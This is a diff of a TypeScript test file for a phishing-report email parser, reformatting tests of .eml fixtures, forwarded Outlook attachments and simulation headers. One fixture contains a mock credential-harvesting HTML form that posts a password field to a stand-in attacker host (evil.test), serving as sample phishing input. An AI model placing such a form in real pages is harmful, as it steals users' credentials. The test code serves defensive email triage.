@@ -7,7 +7,10 @@ import { readMessage } from "../../integrations/email/lib/read-message.js";
 import { buildAlert } from "../../integrations/email/lib/build-alert.js";
 
 const DIR = path.join(import.meta.dirname, "..", "fixtures", "mail");
-const fixtures = fs.readdirSync(DIR).filter((f) => f.endsWith(".eml")).sort();
+const fixtures = fs
+  .readdirSync(DIR)
+  .filter((f) => f.endsWith(".eml"))
+  .sort();
 
 interface Expected {
   messageId: string | null;
@@ -57,15 +60,22 @@ describe("reading real .eml fixtures", () => {
       // A forwarded report: the event carries the URLs of the message forwarded, the report its own.
       const eventUrls = (expected.event?.found_urls as string[] | undefined) ?? expected.urls;
       expect(event.found_url).toBe(eventUrls.join(","));
-      if (expected.event?.StartTime === undefined) expect(event.StartTime).toBe(expected.date ? Date.parse(expected.date) : internalDate.getTime());
+      if (expected.event?.StartTime === undefined)
+        expect(event.StartTime).toBe(expected.date ? Date.parse(expected.date) : internalDate.getTime());
       if (!expected.date) expect(alert.notes.join(" ")).toMatch(/Date header/);
       if (expected.event) expect(event).toMatchObject(expected.event);
       const entities = alert.entities as Record<string, unknown>[];
       for (const wanted of expected.entities ?? []) {
-        expect(entities.some((entity) => matches(entity, wanted)), `entity ${JSON.stringify(wanted)} in ${JSON.stringify(entities)}`).toBe(true);
+        expect(
+          entities.some((entity) => matches(entity, wanted)),
+          `entity ${JSON.stringify(wanted)} in ${JSON.stringify(entities)}`,
+        ).toBe(true);
       }
       for (const unwanted of expected.absentEntities ?? []) {
-        expect(entities.some((entity) => matches(entity, unwanted)), `no entity ${JSON.stringify(unwanted)}`).toBe(false);
+        expect(
+          entities.some((entity) => matches(entity, unwanted)),
+          `no entity ${JSON.stringify(unwanted)}`,
+        ).toBe(false);
       }
       for (const note of expected.notes ?? []) expect(alert.notes.join("\n")).toContain(note);
       // Every URL of the event is an entity, and every entity says where it was found.
@@ -95,11 +105,29 @@ describe("reading real .eml fixtures", () => {
 });
 
 describe("forwarded Outlook messages that are not what they say", () => {
-  const wrap = (name: string, data: Buffer) => Buffer.from([
-    "From: a@example.test", "To: b@example.test", "Subject: FW", "Date: Mon, 02 Nov 2026 10:00:00 +0000", "Message-ID: <bad-msg@example.test>",
-    'Content-Type: multipart/mixed; boundary="Z"', "", "--Z", "Content-Type: text/plain", "", "see attached", "--Z",
-    `Content-Type: application/vnd.ms-outlook; name="${name}"`, "Content-Transfer-Encoding: base64", "", data.toString("base64"), "--Z--", "",
-  ].join("\r\n"));
+  const wrap = (name: string, data: Buffer) =>
+    Buffer.from(
+      [
+        "From: a@example.test",
+        "To: b@example.test",
+        "Subject: FW",
+        "Date: Mon, 02 Nov 2026 10:00:00 +0000",
+        "Message-ID: <bad-msg@example.test>",
+        'Content-Type: multipart/mixed; boundary="Z"',
+        "",
+        "--Z",
+        "Content-Type: text/plain",
+        "",
+        "see attached",
+        "--Z",
+        `Content-Type: application/vnd.ms-outlook; name="${name}"`,
+        "Content-Transfer-Encoding: base64",
+        "",
+        data.toString("base64"),
+        "--Z--",
+        "",
+      ].join("\r\n"),
+    );
 
   it("notes a .msg that is no compound file and keeps the report itself", async () => {
     const alert = buildAlert(await readMessage(wrap("x.msg", Buffer.from("just text, not OLE"))), { uid: 1, folder: "INBOX" });
@@ -114,19 +142,36 @@ describe("forwarded Outlook messages that are not what they say", () => {
     const unreadable = /the Outlook message y\.msg could not be read \(/.source;
     const why = /(the file is not a readable Outlook message|reading needed more than \d+ MB|reading took longer)/.source;
     expect(alert.notes.join("\n")).toMatch(new RegExp(unreadable + why));
-    expect(alert.entities.some((e) => e.type === "FILE" && e.value === "y.msg" && e.sniffed_type === "application/x-ole-storage")).toBe(true);
+    expect(alert.entities.some((e) => e.type === "FILE" && e.value === "y.msg" && e.sniffed_type === "application/x-ole-storage")).toBe(
+      true,
+    );
   });
 });
 
 describe("the event's Headers map, read by rules on the report (simulation headers)", () => {
-  const message = (extra: string[]) => Buffer.from([
-    "From: Trainer <t@sim-vendor.test>", "To: b@example.test", "Subject: Quarterly bonus", "Date: Mon, 02 Nov 2026 10:00:00 +0000",
-    "Message-ID: <h1@example.test>", "MIME-Version: 1.0", "Content-Type: text/plain; charset=utf-8", "Received: from x by y",
-    ...extra, "", "hello", "",
-  ].join("\r\n"));
+  const message = (extra: string[]) =>
+    Buffer.from(
+      [
+        "From: Trainer <t@sim-vendor.test>",
+        "To: b@example.test",
+        "Subject: Quarterly bonus",
+        "Date: Mon, 02 Nov 2026 10:00:00 +0000",
+        "Message-ID: <h1@example.test>",
+        "MIME-Version: 1.0",
+        "Content-Type: text/plain; charset=utf-8",
+        "Received: from x by y",
+        ...extra,
+        "",
+        "hello",
+        "",
+      ].join("\r\n"),
+    );
 
   it("holds the other headers by lower-case name, the first of each, and not those with fields of their own", async () => {
-    const alert = buildAlert(await readMessage(message(["X-PhishTest: yes", "X-Campaign-Vendor: trainer", "X-PhishTest: second"])), { uid: 1, folder: "INBOX" });
+    const alert = buildAlert(await readMessage(message(["X-PhishTest: yes", "X-Campaign-Vendor: trainer", "X-PhishTest: second"])), {
+      uid: 1,
+      folder: "INBOX",
+    });
     const headers = alert.events[0]!.Headers as Record<string, string>;
     expect(headers).toEqual({ "x-phishtest": "yes", "x-campaign-vendor": "trainer" });
     expect(alert.events[0]!.Subject).toBe("Quarterly bonus");
@@ -148,21 +193,51 @@ describe("the event's Headers map, read by rules on the report (simulation heade
 describe("an inline forward's attachments", () => {
   it("are the forwarded message's (depth 1) when the reporter's own part does not show them", async () => {
     const raw = [
-      "From: Bob <bob@example.test>", "To: phish-reports@example.test", "Subject: Fwd: Invoice", "Message-ID: <inline-attach@example.test>",
-      "Date: Mon, 07 Dec 2026 09:31:00 +0000", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="m"', "",
-      "--m", "Content-Type: text/plain; charset=utf-8", "", "Is this real?", "",
-      "---------- Forwarded message ---------", "From: Accounts <ap@payables.test>", "Date: Mon, 7 Dec 2026 at 08:12", "Subject: Invoice", "To: <bob@example.test>", "",
-      "Your invoice is attached.", "",
-      "--m", 'Content-Type: text/html; name="INV-7.htm"', 'Content-Disposition: attachment; filename="INV-7.htm"', "",
-      "<html><form action='https://evil.test/p'><input type='password'></form></html>", "",
-      "--m", 'Content-Type: image/png; name="logo.png"', 'Content-Disposition: inline; filename="logo.png"', "Content-ID: <logo>", "Content-Transfer-Encoding: base64", "",
-      "iVBORw0KGgo=", "--m--", "",
+      "From: Bob <bob@example.test>",
+      "To: phish-reports@example.test",
+      "Subject: Fwd: Invoice",
+      "Message-ID: <inline-attach@example.test>",
+      "Date: Mon, 07 Dec 2026 09:31:00 +0000",
+      "MIME-Version: 1.0",
+      'Content-Type: multipart/mixed; boundary="m"',
+      "",
+      "--m",
+      "Content-Type: text/plain; charset=utf-8",
+      "",
+      "Is this real?",
+      "",
+      "---------- Forwarded message ---------",
+      "From: Accounts <ap@payables.test>",
+      "Date: Mon, 7 Dec 2026 at 08:12",
+      "Subject: Invoice",
+      "To: <bob@example.test>",
+      "",
+      "Your invoice is attached.",
+      "",
+      "--m",
+      'Content-Type: text/html; name="INV-7.htm"',
+      'Content-Disposition: attachment; filename="INV-7.htm"',
+      "",
+      "<html><form action='https://evil.test/p'><input type='password'></form></html>",
+      "",
+      "--m",
+      'Content-Type: image/png; name="logo.png"',
+      'Content-Disposition: inline; filename="logo.png"',
+      "Content-ID: <logo>",
+      "Content-Transfer-Encoding: base64",
+      "",
+      "iVBORw0KGgo=",
+      "--m--",
+      "",
     ].join("\r\n");
     const report = await readMessage(Buffer.from(raw));
     expect(report.forwarded[0]?.forwardedInline).toBe(true);
     expect(report.forwarded[0]!.attachments.map((file) => file.fileName)).toEqual(["INV-7.htm", "logo.png"]);
     expect(report.attachments).toEqual([]);
     const files = buildAlert(report, { uid: 1, folder: "INBOX" }).entities.filter((entity) => entity.type === "FILE");
-    expect(files.map((file) => [file.value, file.depth])).toEqual([["INV-7.htm", 1], ["logo.png", 1]]);
+    expect(files.map((file) => [file.value, file.depth])).toEqual([
+      ["INV-7.htm", 1],
+      ["logo.png", 1],
+    ]);
   });
 });
